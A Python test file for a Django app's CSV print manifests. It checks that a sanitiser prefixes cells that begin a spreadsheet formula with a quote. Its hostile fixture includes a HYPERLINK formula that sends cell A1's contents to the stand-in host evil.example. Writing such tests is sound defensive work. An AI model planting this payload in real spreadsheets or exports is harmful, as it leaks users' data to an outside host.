"""CSV exports: a cell a spreadsheet would run as a formula is written as text."""

from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from customers.models import Customer
from messaging.models import Message
from messaging.print_batch import print_batch_build, spreadsheet_safe
from messaging.services import dispatch_due
from tests.messaging.factories import make_message
from tests.messaging.test_print_batch import DAY, NOW, manifest_rows

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "postcode": "+49 30",
    "city": "@SUM(A1:A9)",
    "external_id": "-2+3",
}


@pytest.mark.django_db
def test_the_print_manifest_neutralises_formulas_from_the_erp(
    creditor, make_invoice, outbox
):
    """Name, postcode, city and id that start a formula get a leading quote."""
    customer = Customer.objects.create(
        creditor=creditor,
        kind="business",
        street="Ringstraße 1",
        country="DE",
        language="de",
        time_zone="Europe/Berlin",
        consent_email=False,
        **HOSTILE,
    )
    claims = [(make_invoice(customer, "10.00"), 1)]
    message = make_message(customer, claims, channel="letter")
    assert dispatch_due(now=NOW)["letter"] == {"sent": 1}
    Message.objects.filter(pk=message.pk).update(
        sent_at=datetime(2025, 4, 1, 11, 0, tzinfo=ZoneInfo("Europe/Berlin"))
    )

    batch = print_batch_build(on_date=DAY, actor="test")

    [row] = manifest_rows(batch.manifest_path)
    assert row["recipient_name"] == "'" + HOSTILE["name"]
    assert row["postcode"] == "'+49 30"
    assert row["city"] == "'@SUM(A1:A9)"
    assert row["customer_external_id"] == "'-2+3"
    # Numbers and plain text stay as they are.
    assert (row["sequence"], row["pages"], row["country"]) == ("1", "1", "DE")
    assert row["total"] == "10.00"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_prefixed(start):
    assert spreadsheet_safe(start + "1+1") == "'" + start + "1+1"


@given(st.text())
def test_no_cell_starts_a_formula_and_only_the_quote_is_added(text):
    """Whatever the text: the cell does not start a formula and reads back."""
    safe = spreadsheet_safe(text)

    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert safe in (text, "'" + text)


def test_numbers_are_not_text_and_stay_numbers():
    assert spreadsheet_safe(-5) == -5
